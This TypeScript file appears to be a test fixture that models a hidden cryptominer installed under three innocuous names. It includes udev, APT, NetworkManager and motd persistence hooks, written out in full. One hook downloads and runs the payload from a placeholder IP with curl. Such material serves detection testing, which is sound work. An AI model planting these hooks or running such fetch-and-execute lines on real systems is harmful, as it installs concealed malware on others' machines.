import { type Infection, miner } from '../host-part.ts'

const body = { lookalike: miner, words: 'offload tuning' } as const

/** One program under three names, started by hooks that nobody looks at; no word of mining anywhere. */
export const manyHooks: Infection = {
  family: 'many-hooks',
  known: false,
  title: 'One program under three names behind hooks of devices, packages and logins',
  story: [
    'A udev rule starts it when a network card appears, a hook of apt at each update, a dispatcher when a link comes up.',
    'A script for the message of the day fetches it again at every login.',
  ],
  items: [
    { kind: 'file', path: '/usr/lib/netoffload/tune', content: body, mode: 0o755 },
    { kind: 'file', path: '/usr/sbin/ethoffloadd', content: body, mode: 0o755 },
    { kind: 'file', path: '/boot/memcheck.bin', content: body, mode: 0o755 },
    {
      kind: 'line',
      path: '/etc/udev/rules.d/85-net-offload.rules',
      text: 'ACTION=="add", SUBSYSTEM=="net", KERNEL!="lo", RUN+="/usr/lib/netoffload/tune"',
    },
    {
      kind: 'line',
      path: '/etc/apt/apt.conf.d/05-offload',
      text: 'APT::Update::Pre-Invoke { "/usr/sbin/ethoffloadd || true"; };',
    },
    {
      kind: 'file',
      path: '/etc/NetworkManager/dispatcher.d/60-offload',
      content: { text: '#!/bin/sh\n/usr/lib/netoffload/tune >/dev/null 2>&1 &\n' },
      mode: 0o755,
    },
    {
      kind: 'file',
      path: '/etc/update-motd.d/97-release-check',
      content: {
        text: '#!/bin/sh\n[ -x /boot/memcheck.bin ] || curl -s http://198.51.100.31/m -o /boot/memcheck.bin && chmod +x /boot/memcheck.bin && /boot/memcheck.bin &\n',
      },
      mode: 0o755,
    },
  ],
}
